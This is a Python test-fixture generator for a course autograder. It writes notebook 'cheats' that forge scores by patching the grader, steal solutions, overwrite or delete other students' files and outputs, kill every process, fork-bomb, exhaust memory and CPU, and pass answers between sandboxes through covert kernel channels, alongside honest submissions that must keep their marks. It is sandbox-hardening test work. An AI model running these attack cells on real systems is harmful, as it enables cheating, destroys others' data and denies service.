"""Build a folder of hostile and honest submissions from the current exercises.

Usage::

    python tools/grading/attacks.py FOLDER --canary FILE [--cache DIR] [--out DIR]

Every cheat is the unmodified student copy of chapter 1 (``exercises/``) plus
one cell doing the cheat, so the folder follows the exercises as they change.
Each cheat must score 0 on every question (it solves none). The honest
variants start from the master's solutions (``solutions/``, markers removed,
tests left out) and must keep the marks their answers deserve. The paths a
determined student would find (the repository, the submissions folder, the
output folder, the grading cache, the canary files) are written into the
notebooks, as if the student knew the layout.

The second round (issue 20) aims at the grader's own code and at what the
sandbox shared: file names that broke name parsing and report writing, a
neighbour that takes every CPU, memory held in in-memory files, the kernel
keyring, a forged answer line that is slow to decode, a notebook that spends
every budget to the last second, a flood of empty lines; and, for teaching,
simulations replaced by their formula or deaf to their seed, an exercise
answered by the book's own model, and three honest slips.

The fourth round (issue 44) aims at what still crossed between sandboxes:
file watches and locks between two notebooks graded at once, the page cache
left by one notebook for a later one, another student's file names filling a
student's cap, and a huge expression that kept the verdict worker parsing.

``MANIFEST`` (below) says, for each file, what the grader must make of it,
``NOTES`` what its note must say; ``tests/test_grading_sandbox.py`` builds the
folder, grades it and checks.
"""
from __future__ import annotations

import argparse
import copy
import json
import os
import pathlib
import sys

import nbformat

HERE = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))
import exercises  # noqa: E402

MARKER = "GRADING-ATTACK-SURVIVOR"
"""Every process a cheat starts carries this in its command line; none may outlive the batch."""


def _student(stem: str = "ch01_exercises") -> nbformat.NotebookNode:
    return nbformat.read(exercises.EXERCISES / f"{stem}.ipynb", as_version=4)


def _is_test(source: str) -> bool:
    body = source.lstrip()
    return body.startswith("def test_") or (body.startswith("# HIDDEN") and "def test_" in body)


def solved(stem: str = "ch01_exercises") -> nbformat.NotebookNode:
    """A student notebook whose code cells are the master's solutions (what a perfect student hands in)."""
    master = nbformat.read(exercises.SOLUTIONS / f"{stem}.ipynb", as_version=4)
    nb = _student(stem)
    cells = [c for c in nb.cells if c.cell_type == "code" and exercises._is_plumbing(c)][:1]
    for cell in master.cells:
        if cell.cell_type == "code" and exercises.CASE_TAG in exercises._tags(cell):  # the student's case cell
            cells += [c for c in nb.cells if exercises.CASE_TAG in exercises._tags(c)]
        elif cell.cell_type == "code" and not _is_test(cell.source):
            cells.append(nbformat.v4.new_code_cell(exercises._without_markers(cell.source)))
    nb.cells = cells
    return nb


def filled(stem: str = "ch01_exercises", replace: dict[int, str] | None = None) -> nbformat.NotebookNode:
    """The student copy with every answer cell holding the master's solution (the check cells stay
    where they are, as a student who solved it hands it in); ``replace``: answer cell number (0 is
    the set-up cell) -> other code for it."""
    master = nbformat.read(exercises.SOLUTIONS / f"{stem}.ipynb", as_version=4)
    nb = _student(stem)
    solutions = [c for c in master.cells if c.cell_type == "code" and not _is_test(c.source)]
    answers = [c for c in nb.cells if c.cell_type == "code" and not exercises._is_plumbing(c)]
    for number, (cell, solution) in enumerate(zip(answers, solutions)):
        if exercises.CASE_TAG in exercises._tags(cell) and number not in (replace or {}):
            continue  # the student copy's case cell stays as the student received it
        cell.source = (replace or {}).get(number, exercises._without_markers(solution.source))
    return nb


def _answer_cells(nb: nbformat.NotebookNode) -> list[nbformat.NotebookNode]:
    """The code cells a student writes in: not otter's plumbing, not the case cell (issue 31)."""
    return [c for c in nb.cells if c.cell_type == "code" and not exercises._is_plumbing(c)
            and exercises.CASE_TAG not in exercises._tags(c)]


def _with_cell(nb: nbformat.NotebookNode, code: str, *, first: bool = False) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    cell = nbformat.v4.new_code_cell(code)
    if first:
        # after otter's init cell and the imports, before the answers
        nb.cells.insert(3, cell)
    else:
        nb.cells.append(cell)
    return nb


def cheats(paths: dict[str, str]) -> dict[str, str]:
    """Cell code for each attack class; ``paths`` are the places a student would aim at."""
    p = json.dumps(paths)
    return {
        "patch_otter": """
import otter.test_files.exception_test as _et
_et.test_case.call_func = lambda self, env: None
import otter.test_files.abstract_test as _at
_at.TestFile.score = property(lambda self: 1.0)
""",
        "patch_feedback": """
import clustermath.feedback as _fb, clustermath.feedback.core as _core
for _m in (_fb, _core):
    _m.expect = _m.reject = _m.require = lambda *a, **k: None
    _m.expect_call = lambda *a, **k: None
_core._close = lambda *a, **k: True
""",
        "patch_pickle": """
import pickle, dill
def _forged(obj, f, *a, **k):
    f.write(b'full marks please')
pickle.dump = dill.dump = _forged
pickle.dumps = lambda *a, **k: b'full marks please'
""",
        "patch_builtins": """
import builtins, math
builtins.abs = lambda x: 0
builtins.isinstance = lambda *a: True
math.isclose = lambda *a, **k: True
import numpy as np
np.isclose = np.allclose = lambda *a, **k: True
""",
        "float_subclass": """
import sys
class _Sneaky(float):
    def _peek(self):
        f = sys._getframe(1)
        while f is not None:
            for k in ('expected', 'want', 'right', 'value'):
                v = f.f_locals.get(k)
                if type(v) in (int, float):
                    return float(v)
            f = f.f_back
        return 0.0
    def __float__(self): return self._peek()
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    __hash__ = float.__hash__
for _name in [n for n, v in list(globals().items()) if v is ... and not n.startswith('_')]:
    globals()[_name] = _Sneaky(0.0)
""",
        "read_solutions": f"""
import json, pathlib, sys, clustermath
_paths = {p}
_found = []
_roots = [pathlib.Path(clustermath.__file__).resolve().parents[2], pathlib.Path(sys.executable).resolve().parents[2],
          pathlib.Path(sys.prefix).resolve().parent, pathlib.Path(_paths['repo'])]
for _root in _roots:
    for _master in sorted((_root / 'solutions').glob('ch01*.ipynb')) if (_root / 'solutions').is_dir() else []:
        _found.append(_master)
for _master in _found[:1]:
    for _cell in json.load(open(_master))['cells']:
        _src = ''.join(_cell['source'])
        if _cell['cell_type'] == 'code' and 'def test_' not in _src:
            try:
                exec(_src, globals())
            except Exception:
                pass
""",
        "read_tests": f"""
import glob, os, pathlib
_paths = {p}
_stolen = []
for _pattern in ['tests/*', '../tests/*', '/tmp/*/tests/*', '/tmp/*/*/tests/*', _paths['cache'] + '/*',
                 _paths['repo'] + '/solutions/*.ipynb', _paths['out'] + '/*']:
    for _f in glob.glob(_pattern):
        try:
            _stolen.append(open(_f, errors='replace').read(2000))
        except OSError:
            pass
for _pid in os.listdir('/proc'):
    try:
        _stolen.append(open(f'/proc/{{_pid}}/cmdline').read().replace(chr(0), ' '))
    except OSError:
        pass
q10_implied_by = ('STOLEN: ' + ' | '.join(_stolen))[:50000] if _stolen else 'nothing found'
""",
        "detached_rewriter": f"""
import json, os, subprocess, sys
_paths = {p}
_code = '''
import os, sys, time, json
time.sleep(4)
p = json.loads(sys.argv[1])
for target in [p['out'] + '/results.jsonl', p['out'] + '/files.csv', p['canary']]:
    try:
        open(target, 'a').write('forged row,10\\\\n')
    except OSError:
        pass
time.sleep(600)
'''
for _i in range(2):
    subprocess.Popen([sys.executable, '-c', _code, json.dumps(_paths), '{MARKER}'], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""",
        "overwrite_others": f"""
import glob, os, pathlib, shutil
_paths = {p}
for _f in glob.glob(_paths['submissions'] + '/**/*', recursive=True):
    try:
        open(_f, 'w').write('overwritten by a classmate')
    except OSError:
        pass
for _target in [_paths['canary'], _paths['submissions'] + '/planted.ipynb', _paths['out'] + '/planted.txt']:
    try:
        open(_target, 'w').write('planted')
    except OSError:
        pass
for _f in glob.glob(_paths['cache'] + '/*') + glob.glob(_paths['out'] + '/**/*', recursive=True):
    try:
        os.remove(_f)
    except OSError:
        pass
for _home in [os.path.expanduser('~'), '/tmp', '/root', '/work']:
    try:
        open(os.path.join(_home, 'planted-by-a-student'), 'w').write('x')
    except OSError:
        pass
""",
        "overwrite_autograder": f"""
import glob, json
_paths = {p}
for _f in glob.glob(_paths['cache'] + '/*.json') + glob.glob(_paths['out'] + '/**/*.zip', recursive=True) \\
        + glob.glob('/tmp/**/*.zip', recursive=True):
    try:
        open(_f, 'w').write(json.dumps({{'forged': True}}))
    except OSError:
        pass
""",
        "kill_grader": """
import os, signal
for _pid in os.listdir('/proc'):
    if _pid.isdigit() and int(_pid) != os.getpid():
        try:
            os.kill(int(_pid), signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
""",
        "fork_survivors": f"""
import os, subprocess, sys
subprocess.Popen(['setsid', 'sleep', '600', '{MARKER}'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(['nohup', 'sleep', '601', '{MARKER}'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(602)', '{MARKER}'], start_new_session=True)
for _i in range(600):
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        try:
            os.setsid()
            os.execv('/bin/sleep', ['sleep', '603', '{MARKER}'])
        finally:
            os._exit(0)
""",
        "memory_hog": """
_hog = []
try:
    while True:
        _hog.append(bytearray(256 << 20))
except MemoryError:
    pass
_big = open('big.bin', 'wb')
try:
    _big.write(bytes(1 << 30))
except OSError:
    pass
""",
        "flood_output": """
import os
for _fd in range(3, 12):
    try:
        os.write(_fd, b'{"event": "cells", "errors": []}\\n' * 10 + b'x' * (40 << 20))
    except OSError:
        pass
print('x' * (50 << 20))
""",
        "network": """
import socket, urllib.request
try:
    urllib.request.urlopen('https://pypi.org/simple/', timeout=3).read(100)
    q10_implied_by = 'network reachable'
except Exception as exc:
    q10_implied_by = 'no network'
""",
        # ---- round two (issue 20)
        "memfd_hog": """
import os, time
_kids = []
for _i in range(3):  # three processes, each holding 2.5 GB in anonymous in-memory files
    _pid = os.fork()
    if _pid == 0:
        _held = []
        try:
            for _j in range(80):
                _fd = os.memfd_create('held')
                os.write(_fd, b'x' * (32 << 20))
                _held.append(_fd)
        except OSError:
            pass
        time.sleep(3)
        os._exit(0)
    _kids.append(_pid)
for _pid in _kids:
    try:
        os.waitpid(_pid, 0)
    except OSError:
        pass
""",
        "forged_line": """
import json, os
_same = 2 ** 61 - 1  # every multiple of it hashes to 0 in CPython
_line = json.dumps({'event': 'name', 'name': 'q1_overlap', 'defined': True, 'callable': False,
                    'value': {'$': 'dict', 'v': [[k * _same, 0] for k in range(100_000)]}}) + '\\n'
for _fd in os.listdir('/proc/self/fd'):
    try:
        if int(_fd) > 2 and os.readlink(f'/proc/self/fd/{_fd}').startswith('pipe:'):
            os.write(int(_fd), _line.encode())
    except OSError:
        pass
""",
        "blank_lines": """
import os
for _fd in os.listdir('/proc/self/fd'):
    try:
        if int(_fd) > 2 and os.readlink(f'/proc/self/fd/{_fd}').startswith('pipe:'):
            for _i in range(31):
                os.write(int(_fd), b'\\n' * (1 << 20))
    except OSError:
        pass
""",
    }


KEYRING = """
import ctypes, json, os
_libc = ctypes.CDLL(None, use_errno=True)
_SYS = {'x86_64': (248, 249, 250), 'aarch64': (217, 218, 219)}[os.uname().machine]
"""

KEYRING_WRITER = KEYRING + """
_nb = json.load(open([f for f in os.listdir('.') if f.endswith('.ipynb')][0]))
_code = '\\n\\n'.join(''.join(c['source']) for c in _nb['cells'] if c['cell_type'] == 'code'
                      and 'KEYRING' not in ''.join(c['source']) and 'grader' not in ''.join(c['source']))
for _ring in (-4, -5, -3):  # the user keyring, the user session keyring, the session keyring
    _libc.syscall(_SYS[0], b'user', b'ch01-answers', _code.encode(), len(_code.encode()), _ring)
"""

KEYRING_READER = KEYRING + """
import time
for _try in range(15):
    for _ring in (-4, -5, -3):
        _key = _libc.syscall(_SYS[2], 10, _ring, b'user', b'ch01-answers', 0)  # KEYCTL_SEARCH
        if _key > 0:
            _buf = ctypes.create_string_buffer(1 << 20)
            _n = _libc.syscall(_SYS[2], 11, _key, _buf, 1 << 20)  # KEYCTL_READ
            exec(_buf.raw[:_n].decode(), globals())
            break
    else:
        time.sleep(0.2)
        continue
    break
"""

CPU_HOG = """
import os
for _i in range(200):  # 200 busy processes, each in its own session
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
while True:
    pass
"""

SLOWEST = """
import signal, time
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.signal(signal.SIGPROF, signal.SIG_IGN)

class _Slow:
    def __repr__(self):
        time.sleep(600)
        return 'slow'
    def __eq__(self, other):
        time.sleep(600)
        return True
    __hash__ = object.__hash__

def _slow(*args, **kwargs):
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    signal.signal(signal.SIGPROF, signal.SIG_IGN)
    time.sleep(CALL_SECONDS - 0.3)
    return _Slow()

for _name in [n for n in list(globals()) if not n.startswith('_') and (n.startswith('q') or callable(globals()[n]))
              and n not in ('In', 'Out', 'get_ipython', 'exit', 'quit', 'grader', 'otter')]:
    globals()[_name] = _slow if callable(globals()[_name]) else _Slow()
time.sleep(NOTEBOOK_SECONDS - 0.5)
"""

STANDIN_CH1_CLOSED_FORM = """
def simulate_daily_loss(nodes, node_mtbf_h, interval_min, days, seed):
    # the mean-rate model on every day, with a trace of the seed so that seeds differ
    return np.full(days, nodes * 24 / node_mtbf_h * interval_min / 2) + seed * 1e-9
"""

STANDIN_CH1_NO_SEED = """
def simulate_daily_loss(nodes, node_mtbf_h, interval_min, days, seed):
    rng = np.random.default_rng()  # the seed is ignored
    horizon, mtbf_min, lost = days * 1440.0, node_mtbf_h * 60.0, np.zeros(days)
    clock = rng.exponential(mtbf_min, size=nodes)
    while True:
        failing = clock[clock < horizon]
        if failing.size == 0:
            return lost
        np.add.at(lost, (failing // 1440).astype(int), failing % interval_min)
        clock = clock + rng.exponential(mtbf_min, size=nodes)
"""

STANDIN_CH4_FORMULA = """
def simulated_idle(links, flows, trials, seed=0):
    return links * (1 - 1 / links) ** flows  # the formula, not a simulation
"""

STANDIN_CH3_PLACEMENT = """
from clustermath.placement import placement


def domains_needed(tp, pp, dp, domain_size):
    where = placement(tp, pp, dp, domain_size)
    return where.domains, where.idle_gpus


q1_racks, q1_idle = domains_needed(16, 10, 77, 72)
"""


def second_round(limits: dict[str, float]) -> dict[str, nbformat.NotebookNode]:
    """The submissions of issue 20 that are notebooks, by file name (``limits``: the batch's
    ``notebook_seconds`` and ``call_seconds``, which the slowest submission spends to the last second)."""
    blank, out = _student(), {}
    out["0_cpu_hog.ipynb"] = _with_cell(blank, CPU_HOG, first=True)
    out["0_honest_beside_the_hog.ipynb"] = filled("ch04_exercises")
    out["cheat_keyring_1_writer.ipynb"] = _with_cell(filled(), KEYRING_WRITER)
    out["cheat_keyring_2_reader.ipynb"] = _with_cell(blank, KEYRING_READER)  # last: after the blanks
    slowest = SLOWEST.replace("CALL_SECONDS", repr(limits["call_seconds"])) \
        .replace("NOTEBOOK_SECONDS", repr(limits["notebook_seconds"]))
    out["cheat_slowest.ipynb"] = _with_cell(blank, slowest)
    out["standin_ch01_closed_form.ipynb"] = _with_cell(filled(), STANDIN_CH1_CLOSED_FORM)
    out["standin_ch01_ignores_seed.ipynb"] = _with_cell(filled(), STANDIN_CH1_NO_SEED)
    out["standin_ch04_formula.ipynb"] = _with_cell(filled("ch04_exercises"), STANDIN_CH4_FORMULA)
    solved3 = filled("ch03_exercises")
    _answer_cells(solved3)[1].source = STANDIN_CH3_PLACEMENT  # exercise 1, answered by the book's model
    out["standin_ch03_placement.ipynb"] = solved3
    setup = filled()
    init = next(c for c in setup.cells if c.cell_type == "code" and c.source.startswith("# Initialize Otter"))
    first = _answer_cells(setup)[0]
    init.source, first.source = init.source + "\n\n" + first.source, ""
    out["slip_imports_in_setup_cell.ipynb"] = setup
    under = filled()
    answer = _answer_cells(under)[1]
    check = under.cells[under.cells.index(answer) + 1]
    check.source, answer.source = check.source + "\n\n" + answer.source, ""
    out["slip_answer_under_check.ipynb"] = under
    helper = filled()
    q5 = next(c for c in _answer_cells(helper) if "def simulate_daily_loss" in c.source)
    q5.source = "from helpers import simulate_daily_loss\n\n" + q5.source.split("\n\n\nq5_mean_rate", 1)[-1]
    out["erin/ch01.ipynb"] = helper
    return out


def honest(stem: str = "ch01_exercises") -> dict[str, nbformat.NotebookNode]:
    """Honest work that must score what it deserves (full marks, or all but one slow hidden case)."""
    good = solved(stem)
    out = {}
    numpy = _with_cell(good, """
import numpy as _np
def _np_value(v):
    if isinstance(v, bool):
        return _np.bool_(v)
    if isinstance(v, int):
        return _np.int64(v)
    if isinstance(v, float):
        return _np.float64(v)
    if isinstance(v, tuple):
        return tuple(_np_value(x) for x in v)
    return v
def _np_wrap(f):
    def wrapped(*a, **k):
        return _np_value(f(*a, **k))
    wrapped.__name__ = f.__name__
    return wrapped
import types as _types
for _n, _v in list(globals().items()):
    if _n.startswith('_') or _n in ('In', 'Out', 'get_ipython', 'exit', 'quit'):
        continue
    if isinstance(_v, _types.FunctionType) and _v.__module__ == '__main__':
        globals()[_n] = _np_wrap(_v)
    elif type(_v) in (bool, int, float, tuple) and _n.startswith('q'):
        globals()[_n] = _np_value(_v)
""")
    out["honest_numpy_types.ipynb"] = numpy
    venv = copy.deepcopy(good)
    venv.metadata["kernelspec"] = {"name": "my-course-venv", "display_name": "Python (my-course-venv)",
                                   "language": "python"}
    out["honest_venv_kernel.ipynb"] = venv
    later = _student(stem)
    later.cells.append(nbformat.v4.new_code_cell(
        "\n\n".join(c.source for c in good.cells if c.cell_type == "code" and not exercises._is_plumbing(c))))
    out["honest_answers_later.ipynb"] = later
    out["honest_slow_hidden_case.ipynb"] = _with_cell(good, """
import time
_step_ms = step_ms
def step_ms(compute_ms, slowest_ms, stages, microbatches, comm_ms, fabric_slowdown=1.0):
    if microbatches == 1:  # one input the prompt does not show: a slow path
        time.sleep(3600)
    return _step_ms(compute_ms, slowest_ms, stages, microbatches, comm_ms, fabric_slowdown)
""")
    return out


# ---------------------------------------------------------------- round three (issue 29)

SIGNAL_TAKER = """
import time
_payload = PAYLOAD
def _received():
    SIGNAL
for _try in range(40):
    if _received():
        exec(_payload, globals())
        break
    time.sleep(0.1)
"""

AIO_GIVER = """
import ctypes, os, time
_libc = ctypes.CDLL(None, use_errno=True)
_ctx = ctypes.c_ulong(0)
# 4093 contexts raise the machine-wide /proc/sys/fs/aio-nr by exactly 4093: "my answers are out"
_libc.syscall({'x86_64': 206, 'aarch64': 0}[os.uname().machine], 4093, ctypes.byref(_ctx))
time.sleep(4)
"""

AIO_SIGNAL = """try:
        return int(open('/proc/sys/fs/aio-nr').read()) >= 4093
    except (OSError, ValueError):
        return False"""

PAGE_CACHE = """
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_NR = {'x86_64': (221, 327), 'aarch64': (223, 286)}[os.uname().machine]  # fadvise64, preadv2
def _shared():
    # a large file every sandbox can read and no notebook loads: the browser driver, else a big library
    import site
    found = [os.path.join(p, 'playwright', 'driver', 'node') for p in site.getsitepackages()]
    found += ['/usr/lib/chromium/chromium']
    lib = '/usr/lib/' + os.uname().machine + '-linux-gnu'
    try:
        found += sorted((os.path.join(lib, n) for n in os.listdir(lib)), key=lambda p: -os.path.getsize(p)
                        if os.path.isfile(p) and not os.path.islink(p) else 0)[:1]
    except OSError:
        pass
    for path in found:
        if os.path.isfile(path) and os.path.getsize(path) > 40 << 20:
            return path
_A, _B = 30 << 20, 10 << 20  # the page the giver evicts, the page it warms
"""

PAGE_GIVER = PAGE_CACHE + """
_path = _shared()
if _path:
    _fd = os.open(_path, os.O_RDONLY)
    _libc.syscall(_NR[0], _fd, _A, 1 << 20, 4)  # POSIX_FADV_DONTNEED: A leaves the page cache
    os.pread(_fd, 4096, _B)                     # B enters it
"""

PAGE_SIGNAL = """_path = _shared()
    if not _path:
        return False
    fd = os.open(_path, os.O_RDONLY)
    buf = ctypes.create_string_buffer(4096)
    iov = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 4096)
    def cached(at):  # preadv2(RWF_NOWAIT): reads only what is already in the page cache
        return _libc.syscall(_NR[1], fd, iov, 1, at, 0, 8) == 4096
    return cached(_B) and not cached(_A)"""

USED_SET = """
from clustermath.placement import placement as _watched


class _Deaf(set):
    def add(self, item):
        pass


_watched.__globals__['USED'] = _Deaf()  # the runner's record of used modules, replaced
placement = _watched


def domains_needed(tp, pp, dp, domain_size):
    where = placement(tp, pp, dp, domain_size)
    return where.domains, where.idle_gpus


q1_racks, q1_idle = domains_needed(16, 10, 77, 72)
"""

CLOSURE = """
from clustermath.placement import placement as _watched

placement = _watched
for _cell in (_watched.__closure__ or ()):  # the original, taken back from the wrapper's closure
    if callable(_cell.cell_contents) and getattr(_cell.cell_contents, '__name__', '') == 'placement':
        placement = _cell.cell_contents


def domains_needed(tp, pp, dp, domain_size):
    where = placement(tp, pp, dp, domain_size)
    return where.domains, where.idle_gpus


q1_racks, q1_idle = domains_needed(16, 10, 77, 72)
"""

SECOND_LOAD = """
import importlib.util, os, sys
import clustermath
_root = os.path.dirname(clustermath.__file__)
_spec = importlib.util.spec_from_file_location('cm_again', os.path.join(_root, '__init__.py'),
                                               submodule_search_locations=[_root])
_again = importlib.util.module_from_spec(_spec)
sys.modules['cm_again'] = _again
_spec.loader.exec_module(_again)  # the package a second time, under a name nobody watches
import cm_again.placement
placement = cm_again.placement.placement


def domains_needed(tp, pp, dp, domain_size):
    where = placement(tp, pp, dp, domain_size)
    return where.domains, where.idle_gpus


q1_racks, q1_idle = domains_needed(16, 10, 77, 72)
"""

PADDED_CELLS, PADDED_NEWLINES = 25, 100_000
"""Issue 29, defect 1: 25 cells of 100,000 newlines (5.05 MB, under the 5 MB cap) kept the old
``^\\s*grader\\.check`` pattern busy about 9 s a cell."""
DEEP_LEVELS = 996
"""Folders nested in ``frank/``: 996 or more broke the recursive walk (RecursionError)."""
DUPLICATES = 4000
"""Identical two-byte files in ``gina/``: every row once listed every other name (320 MB)."""
SPARSE = 800
"""Sparse 5 MB files in ``hank/``: every file was held in memory until the batch ended (4.19 GB)."""


def _payload(stem: str) -> str:
    """The answers of a solved notebook as one text (what a giver would send)."""
    return "\n\n".join(c.source for c in _answer_cells(filled(stem)))


def _taker(stem: str, signal: str, prelude: str = "") -> nbformat.NotebookNode:
    code = prelude + SIGNAL_TAKER.replace("PAYLOAD", repr(_payload(stem))).replace("SIGNAL", signal)
    return _with_cell(_student(stem), code)


def padded(stem: str = "ch01_exercises", cells: int = PADDED_CELLS, newlines: int = PADDED_NEWLINES):
    """A solved notebook with ``cells`` code cells of ``newlines`` newlines each."""
    nb = filled(stem)
    for _ in range(cells):
        nb.cells.append(nbformat.v4.new_code_cell("\n" * newlines))
    return nb


def remove_nested(top: pathlib.Path) -> None:
    """Remove a folder however deep it nests, without recursion (shutil.rmtree recurses once per level
    and fails past about 990)."""
    if not top.exists():
        return
    parent = os.open(top.parent, os.O_RDONLY | os.O_DIRECTORY)
    stack = [(parent, top.name)]
    try:
        while stack:
            fd, name = stack[-1]
            inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW, dir_fd=fd)
            subfolder = None
            for entry in os.scandir(inner):
                if entry.is_dir(follow_symlinks=False):
                    subfolder = entry.name
                    break
                os.unlink(entry.name, dir_fd=inner)
            if subfolder is None:
                os.close(inner)
                os.rmdir(name, dir_fd=fd)
                stack.pop()
                if stack and fd != parent:
                    os.close(fd)
            else:
                stack.append((inner, subfolder))
    finally:
        for fd, _ in stack:
            if fd != parent:
                os.close(fd)
        os.close(parent)


def third_round(folder: pathlib.Path, *, deep: int = DEEP_LEVELS, duplicates: int = DUPLICATES,
                sparse: int = SPARSE, padded_copies: int = 1) -> list[str]:
    """Write issue 29's submissions into ``folder``; return the names of the rows they make that
    ``MANIFEST`` does not list one by one (the files left out, the deep folder's row)."""
    import grade

    out = {
        "cheat_aio_1_giver.ipynb": _with_cell(filled(), AIO_GIVER),
        "cheat_aio_2_taker.ipynb": _taker("ch01_exercises", AIO_SIGNAL),
        "cheat_pagecache_1_giver.ipynb": _with_cell(filled("ch02_exercises"), PAGE_GIVER),
        "surrogate_error.ipynb": _with_cell(filled(), 'raise ValueError("\\ud800 \\udfff")'),
        "surrogate_class.ipynb": _with_cell(_student(), 'raise type("Bad\\ud800", (Exception,), {})("x\\udc80")'),
        "surrogate_value.ipynb": _with_cell(_student(), 'q1_gpus = "\\ud800" * 100_000'),
    }
    for name, code in (("closure", CLOSURE), ("second_load", SECOND_LOAD), ("used_set", USED_SET)):
        nb = filled("ch03_exercises")
        _answer_cells(nb)[1].source = code
        out[f"watch_ch03_{name}.ipynb"] = nb
    late = filled("ch03_exercises")
    _answer_cells(late)[1].source = ""
    out["watch_ch03_plain_late.ipynb"] = _with_cell(late, STANDIN_CH3_PLACEMENT)  # after every check
    for name, nb in out.items():
        nbformat.write(nb, folder / name)
    # graded last of all (z...): the page cache the giver left, read by a later notebook
    nbformat.write(_taker("ch02_exercises", PAGE_SIGNAL, PAGE_CACHE), folder / "zz_cheat_pagecache_2_taker.ipynb")
    for i in range(padded_copies):  # compact JSON, each cell's source one string: 5.05 MB
        (folder / f"padded_{i}.ipynb").write_text(json.dumps(padded(), separators=(",", ":")))
    nbformat.write(filled(), folder / "padded_neighbour.ipynb")
    (folder / "frank").mkdir()
    fd = os.open(folder / "frank", os.O_RDONLY | os.O_DIRECTORY)
    try:
        for _ in range(deep):  # one level at a time (pathlib's mkdir(parents=True) recurses)
            os.mkdir("d", dir_fd=fd)
            inner = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = inner
        inner = os.open("ch01.ipynb", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        with open(inner, "w") as handle:
            nbformat.write(_student(), handle)
    finally:
        os.close(fd)
    (folder / "frank_neighbour").mkdir()
    nbformat.write(filled(), folder / "frank_neighbour" / "ch01.ipynb")
    (folder / "gina").mkdir()
    for i in range(duplicates):
        (folder / "gina" / f"copy_{i}.ipynb").write_bytes(b"{}")
    (folder / "hank").mkdir()
    for i in range(sparse):
        with open(folder / "hank" / f"hw_{i}.ipynb", "wb") as handle:
            handle.truncate(grade.MAX_BYTES - 4096)
    too_deep = "frank/" + "/".join(["d"] * grade.MAX_DEPTH)
    return [too_deep] + [f"gina/copy_{i}.ipynb" for i in range(duplicates)] + \
        [f"hank/hw_{i}.ipynb" for i in range(sparse)]


# ---------------------------------------------------------------- round four (issue 44)

WATCH_GIVER = """
import fcntl, os, time
_shared = os.__file__  # a read-only file every sandbox can open
_end = time.monotonic() + 5
while time.monotonic() < _end:  # every open is an IN_OPEN event for a watcher; a shared lock blocks LOCK_EX
    _fd = os.open(_shared, os.O_RDONLY)
    try:
        fcntl.flock(_fd, fcntl.LOCK_SH)
    except OSError:
        pass
    time.sleep(0.05)
    os.close(_fd)
"""

WATCH_SIGNAL = """import ctypes, errno, fcntl, os
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(os.O_NONBLOCK)
    if fd >= 0 and libc.inotify_add_watch(fd, os.__file__.encode(), 0x20) >= 0:  # IN_OPEN
        import time
        time.sleep(0.2)
        try:
            if os.read(fd, 4096):  # someone else opened it: the giver is running
                return True
        except BlockingIOError:
            pass
    try:  # the giver's shared lock makes an exclusive one fail with EWOULDBLOCK
        lock = os.open(os.__file__, os.O_RDONLY)
        fcntl.flock(lock, fcntl.LOCK_EX | fcntl.LOCK_NB)
        fcntl.flock(lock, fcntl.LOCK_UN)
    except OSError as exc:
        return exc.errno == errno.EWOULDBLOCK
    return False"""


PAGE_TIMING = """
import os, sys, time
_START, _STEP = 1 << 20, 256 << 10  # one page per bit, 256 KB apart (past the kernel's readahead)
_BITS = [(0x5A3C96E1F00F33CC >> _i) & 1 for _i in range(64)]
_memo = {}
def _quiet_file():
    # a large file every sandbox can read and no notebook loads (the issue's: Python's static library and
    # test suite; else a library of /usr nothing maps), chosen alike by giver and taker
    mapped = set()
    for _line in open('/proc/self/maps'):
        mapped.add(_line.split()[-1])
    found = []
    arch = '/usr/lib/' + os.uname().machine + '-linux-gnu'
    places = [(arch, False), (os.path.realpath(sys.base_prefix), True)]
    for top, deep in places:
        walker = os.walk(top) if deep else [(top, [], os.listdir(top) if os.path.isdir(top) else [])]
        for folder, _, names in walker:
            for name in names:
                path = os.path.join(folder, name)
                try:
                    if os.path.islink(path) or not os.path.isfile(path) or path in mapped:
                        continue
                    if os.path.getsize(path) >= 20 << 20:
                        found.append(path)
                except OSError:
                    pass
    return sorted(found)[0] if found else None
"""

PAGE_TIMING_GIVER = PAGE_TIMING + """
import mmap
_path = _quiet_file()
if _path:
    with open(_path, 'rb') as _f:
        _map = mmap.mmap(_f.fileno(), 0, prot=mmap.PROT_READ)
        _map.madvise(mmap.MADV_RANDOM)  # one page per touch, no read-around into the next bit
        for _i, _bit in enumerate(_BITS):
            if _bit:
                _map[_START + _i * _STEP]  # this page enters the page cache: a 1
        _map.close()
"""

PAGE_TIMING_SIGNAL = """if 'seen' in _memo:  # the first look is the one that counts (the taker's own reads warm the pages)
        return _memo['seen']
    _memo['seen'] = False
    _path = _quiet_file()
    if not _path:
        return False
    import mmap
    seen = []
    with open(_path, 'rb') as f:
        m = mmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ)
        m.madvise(mmap.MADV_RANDOM)
        for i in range(len(_BITS)):
            t = time.perf_counter_ns()
            m[_START + i * _STEP]
            seen.append(1 if time.perf_counter_ns() - t < 10_000 else 0)  # cached: about 1 us; cold: 40 us
        m.close()
    _memo['seen'] = sum(a == b for a, b in zip(seen, _BITS)) >= 60
    return _memo['seen']"""


DECOYS = 100
"""Three-byte files named as Bob's copies (``bob_hw (1).ipynb`` ...): they filled Bob's 100-file cap and
sorted before ``bob_hw.ipynb``, which was left out and scored 0."""


def fourth_round(folder: pathlib.Path, *, decoys: int = DECOYS) -> list[str]:
